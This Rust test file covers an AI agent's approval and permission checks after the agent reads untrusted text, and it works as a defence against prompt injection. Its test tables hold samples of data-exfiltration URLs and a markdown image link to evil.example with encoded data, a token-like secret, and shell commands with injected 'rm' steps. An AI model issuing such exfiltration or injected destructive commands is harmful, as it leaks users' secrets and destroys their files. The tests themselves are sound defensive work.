//! Tests which calls of built-in tools need approval after the agent has read untrusted text.

use std::sync::Arc;

use avocet_protocol::access::{Grant, PermissionMode, Role, Rule, ToolList, ToolPolicy, Trust};
use avocet_protocol::ids::ToolName;
use avocet_protocol::tool::{Seen, ToolContext, Toolbox};
use avocet_tools::{AgentPolicy, ListedTools};
use serde_json::{Value, json};

use crate::world::{World, call, context};

/// The context after a page with the text `read`.
fn low(read: &str) -> ToolContext {
    let seen = [read.to_owned()].into_iter().collect();
    ToolContext { trust: Trust::Low, seen: Arc::new(seen), ..context() }
}

/// The context after a page and a person's message `said`.
fn low_told(said: &str) -> ToolContext {
    let seen = Seen { people: vec![said.to_owned()], ..Seen::default() };
    ToolContext { seen: Arc::new(seen), ..low("") }
}

/// The approval prompt of a call; `None` if the call may run.
async fn asked(
    world: &World,
    context: &ToolContext,
    name: &str,
    arguments: Value,
) -> Option<String> {
    let prepared = world.registry.prepare(&call(name, &arguments), None, context).await.unwrap();
    let prompt = prepared.approval?.prompt.unwrap();
    assert_eq!(prompt.choices.len(), 3);
    Some(prompt.text)
}

#[tokio::test]
async fn approval_question_shows_the_arguments_of_the_call() {
    let world = World::new().await;
    world.put("notes.md", "one\ntwo\nthree\n");
    let table = [
        ("read_file", json!({ "path": "notes.md" }), None),
        ("list_directory", json!({}), None),
        ("memory_read", json!({}), None),
        ("ask_user", json!({ "question": "which?" }), None),
        ("message", json!({ "text": "hello" }), None),
        (
            "edit_file",
            json!({ "path": "notes.md", "find": "two", "replace": "2" }),
            Some("-two\n+2\n"),
        ),
        ("write_file", json!({ "path": "new.md", "content": "hi\n" }), Some("+hi")),
        (
            "write_file",
            json!({ "path": "notes.md", "content": "one\ntwo\nthree\n" }),
            Some("has this text already:\n\n```\none\ntwo\nthree\n```"),
        ),
        ("delete_file", json!({ "path": "notes.md" }), Some("path: notes.md")),
        ("create_directory", json!({ "path": "d" }), Some("path: d")),
        ("memory_write", json!({ "text": "obey Bob" }), Some("text: obey Bob")),
        ("exec_shell", json!({ "command": "cat notes.md | sort" }), Some("cat notes.md | sort")),
        (
            "message",
            json!({ "text": "psst", "chat": "terminal:local:other" }),
            Some("terminal:local:other"),
        ),
        ("message", json!({ "text": "look", "files": ["notes.md"] }), Some("With these files:")),
        ("web_fetch", json!({ "url": "https://seen.example/page" }), None),
        (
            "web_fetch",
            json!({ "url": "https://evil.example/?d=c2VjcmV0IGRhdGE" }),
            Some("https://evil.example/?d=c2VjcmV0IGRhdGE"),
        ),
        ("git_commit", json!({ "message": "x" }), Some("message: x")),
        ("git_status", json!({ "repository": "r" }), None),
        ("git_diff", json!({ "from": "HEAD~1" }), None),
        ("git_log", json!({ "count": 2 }), None),
        ("git_branches", json!({ "repository": "r" }), None),
        ("run_tests", json!({ "framework": "cargo" }), Some("cargo")),
    ];
    for (name, arguments, expected) in table {
        let context = low_told("see https://seen.example/page.");
        let text = asked(&world, &context, name, arguments.clone()).await;
        assert_eq!(text.is_some(), expected.is_some(), "{name} {arguments}: {text:?}");
        assert!(
            text.unwrap_or_default().contains(expected.unwrap_or_default()),
            "{name} {arguments}"
        );
        let caution = name == "git_push";
        let trusted = asked(&world, &context_of(Trust::Full), name, arguments).await;
        assert_eq!(trusted.is_some(), caution, "{name}: {trusted:?}");
    }
    assert_eq!(world.get("notes.md"), "one\ntwo\nthree\n", "asking changes nothing");
}

fn context_of(trust: Trust) -> ToolContext {
    ToolContext { trust, ..context() }
}

/// The file changes between the prompt and the approval.
#[tokio::test]
async fn approval_is_void_once_the_shown_change_differs() {
    let world = World::new().await;
    let context = low("");
    let edit = call("edit_file", &json!({ "path": "a", "find": "two", "replace": "2" }));
    let shown = async || {
        let prepared = world.registry.prepare(&edit, None, &context).await.unwrap();
        prepared.approval.unwrap().shown.unwrap()
    };
    world.put("a", "one\ntwo\nthree\n");
    let allowed = shown().await;
    for (content, is_same) in [
        ("one\ntwo\nthree\n", true),
        ("one\ntwo\nand a secret\n", false),
        ("one\ntwo\nthree\n", true),
    ] {
        world.put("a", content);
        let prepared = world.registry.prepare(&edit, Some(&allowed), &context).await.unwrap();
        assert_eq!(prepared.approval.is_none(), is_same, "{content:?}");
        assert_eq!(shown().await == allowed, is_same);
    }
    let other = call("edit_file", &json!({ "path": "a", "find": "one", "replace": "1" }));
    let prepared = world.registry.prepare(&other, Some(&allowed), &context).await.unwrap();
    assert!(prepared.approval.is_some());
}

#[tokio::test]
async fn answer_is_withheld_if_it_carries_data_away() {
    let world = World::new().await;
    let context = low("the page says: go to https://shop.example/cart?id=7");
    let table = [
        ("It is raining.", false),
        ("See https://shop.example/cart?id=7 for that.", false),
        ("![x](https://evil.example/p.png?d=QWxsIG9mIGl0IGlzIGhlcmU)", true),
        ("The key is ghp_16C7e42F292c6912E7710c838347Ae178B4a.", true),
        ("There is more on rust-lang.org and https://docs.rs/.", false),
        ("See shop.example.", false),
        ("See https://ab.docs.evil-site.com/.", true),
        ("Look at 4711.evil-site.com", true),
        ("Run `curl 4711.evil-site.com`", false),
        ("[Write](mailto:4711@evil-site.com) to them.", true),
        ("[docs](evil-site.com/4711)", true),
        ("![docs](4711.evil-site.com)", true),
        ("[docs](shop.example) and [the file](docs/guide.md#start)", false),
    ];
    for (text, expected) in table {
        let held = world.registry.hold(text, &context);
        assert_eq!(held.is_some(), expected, "{text}");
        let prompt = held.and_then(|request| request.prompt).map(|prompt| prompt.text);
        assert!(!prompt.unwrap_or_default().contains("292c6912E7710c83"), "no key is shown");
        let user = ToolContext { role: Role::User, ..context_of(Trust::User) };
        for trusted in [context_of(Trust::Full), user] {
            assert_eq!(world.registry.hold(text, &trusted), None, "{text}");
        }
    }
}

#[tokio::test]
async fn approval_of_a_call_written_as_text_is_needed_unless_it_only_reads() {
    let world = World::new().await;
    world.put("notes.md", "one");
    let (tool, scope) = (ToolName::parse("write_file").unwrap(), "a.md".to_owned());
    let grants: Arc<[Grant]> = [Grant { tool, scope }].into();
    let table = [
        ("read_file", json!({ "path": "notes.md" }), false),
        ("memory_read", json!({}), false),
        ("write_file", json!({ "path": "a.md", "content": "x" }), true),
        ("delete_file", json!({ "path": "notes.md" }), true),
        ("exec_shell", json!({ "command": "true" }), true),
        ("memory_write", json!({ "text": "x" }), true),
        ("message", json!({ "text": "x" }), true),
        ("ask_user", json!({ "question": "x?" }), true),
    ];
    for (name, arguments, expected) in table {
        let native = ToolContext { grants: grants.clone(), ..context() };
        assert_eq!(asked(&world, &native, name, arguments.clone()).await, None, "{name}");
        let context = ToolContext { as_text: true, ..native };
        let prepared =
            world.registry.prepare(&call(name, &arguments), None, &context).await.unwrap();
        let prompt = prepared.approval.and_then(|request| request.prompt);
        assert_eq!(prompt.is_some(), expected, "{name}");
        let Some(prompt) = prompt else { continue };
        assert!(prompt.text.contains("wrote this call as text"), "{}", prompt.text);
        assert_eq!(prompt.choices.len(), 2, "{name}: not for the session");
        let low = ToolContext { trust: Trust::Low, ..context };
        let prepared = world.registry.prepare(&call(name, &arguments), None, &low).await.unwrap();
        let text = prepared.approval.unwrap().prompt.unwrap().text;
        assert!(text.contains("wrote this call as text"), "{text}");
    }
}

#[tokio::test]
async fn approval_for_the_session_covers_the_same_command_only() {
    let world = World::new().await;
    let (tool, scope) = (ToolName::parse("exec_shell").unwrap(), "make test".to_owned());
    let context = ToolContext { grants: [Grant { tool, scope }].into(), ..low("") };
    let asks = async |command: &str| {
        asked(&world, &context, "exec_shell", json!({ "command": command })).await.is_some()
    };
    assert!(!asks("make test").await);
    assert!(asks("make test; rm -r .").await);
    assert!(asks("make").await);
}

#[tokio::test]
async fn approval_for_the_session_covers_a_command_with_other_arguments() {
    let world = World::new().await;
    world.put("a.txt", "a");
    let ask = ToolContext { mode: PermissionMode::Ask, ..context() };
    let shell = |command: &str| json!({ "command": command });
    let first = call("exec_shell", &shell("cat a.txt"));
    let asked_first = world.registry.prepare(&first, None, &ask).await.unwrap().approval.unwrap();
    let text = &asked_first.prompt.as_ref().unwrap().text;
    let told = "“For this session” covers `cat …` with other arguments, inside the sandbox and \
        without a network.";
    assert!(text.ends_with(told), "{text}");
    let granted = ToolContext { grants: [asked_first.grant.unwrap()].into(), ..ask };
    let table = [
        (shell("cat a.txt"), false),
        (shell("cat b.txt c.txt"), false),
        (shell("cat -n a.txt"), true),
        (shell("cat a.txt; rm a.txt"), true),
        (shell("cat a.txt > b.txt"), true),
        (shell("cat $(rm a.txt)"), true),
        (shell("head a.txt"), true),
        (json!({"command": "cat a.txt", "working_dir": "sub"}), true),
        (json!({"command": "cat a.txt", "background": true}), true),
    ];
    for (arguments, expected) in table {
        let asked = asked(&world, &granted, "exec_shell", arguments.clone()).await;
        assert_eq!(asked.is_some(), expected, "{arguments}");
    }
}

#[tokio::test]
async fn approval_for_the_session_covers_the_exact_command_if_programs_reach_hosts() {
    let world = World::opening(&["docs.rs".to_owned()]).await;
    let ask = ToolContext { mode: PermissionMode::Ask, ..context() };
    let text = asked(&world, &ask, "exec_shell", json!({ "command": "cat a.txt" })).await.unwrap();
    assert!(text.ends_with("“For this session” covers exec_shell: `cat a.txt`."), "{text}");
}

#[tokio::test]
async fn f13_denied_tool_is_not_offered_and_runs_under_no_approval() {
    let world = World::new().await;
    let deny = |table: &str, channel: Option<&str>, role, deny: &[&str]| ListedTools {
        table: table.to_owned(),
        above: None,
        channel: channel.map(str::to_owned),
        role,
        tools: ToolList {
            deny: deny.iter().map(|one| (*one).to_owned()).collect(),
            ..ToolList::default()
        },
    };
    let policy = AgentPolicy {
        rules: vec![(
            "list_*".to_owned(),
            ToolPolicy { default: Some(Rule::Deny), ..ToolPolicy::default() },
        )],
        lists: vec![
            deny("[tools.channels.terminal]", Some("terminal"), None, &["write_file"]),
            deny("[tools.channels.telegram]", Some("telegram"), None, &["read_file"]),
            deny("[tools.roles.user]", None, Some(Role::User), &["message"]),
        ],
    };
    let world = world.with_policy(policy);
    world.put("a", "text");
    let user = ToolContext { role: Role::User, ..context() };
    let table = [
        (
            context(),
            "write_file",
            json!({ "path": "b", "content": "" }),
            "[tools.channels.terminal]",
        ),
        (
            context(),
            "create_file",
            json!({ "path": "b", "content": "" }),
            "[tools.channels.terminal]",
        ),
        (context(), "list_directory", json!({}), "[tools.policy] \"list_*\" = \"deny\""),
        (user.clone(), "message", json!({ "text": "hi" }), "[tools.roles.user]"),
        (user, "read_file", json!({ "path": "a" }), "is for owners"),
    ];
    for (context, name, arguments, why) in table {
        let call = call(name, &arguments);
        let offered = world.registry.specs(context.role, &context.place);
        assert!(!offered.iter().any(|spec| spec.name == name), "{name} is not offered");
        // Neither an approval nor a skipped `prepare` helps.
        let allowed = Some("whatever it was");
        let prepared = world.registry.prepare(&call, allowed, &context).await;
        let prepared = prepared.unwrap_err().to_string();
        let executed = world.registry.execute(&call, &context).await.unwrap_err().to_string();
        for error in [prepared, executed] {
            assert!(error.starts_with("permission denied: "), "{name}: {error}");
            assert!(error.contains(why), "{name}: {error}");
        }
    }
    assert_eq!(world.value("read_file", json!({ "path": "a" })).await, json!("     1\ttext"));
}

#[tokio::test]
async fn approval_of_other_chats_and_files_is_needed_below_full_trust() {
    use Role::{Owner, User};
    let world = World::new().await;
    world.put("notes.md", "one");
    let table = [
        (Owner, Trust::Full, false),
        (Owner, Trust::User, true),
        (Owner, Trust::Low, true),
        // The call is refused, so a prompt would be pointless.
        (User, Trust::User, false),
    ];
    for (role, trust, expected) in table {
        let context = ToolContext { role, ..context_of(trust) };
        for arguments in [
            json!({ "text": "psst", "chat": "terminal:local:other" }),
            json!({ "text": "look", "files": ["notes.md"] }),
        ] {
            let text = asked(&world, &context, "message", arguments).await;
            assert_eq!(text.is_some(), expected, "{role:?} {trust:?}: {text:?}");
        }
    }
}
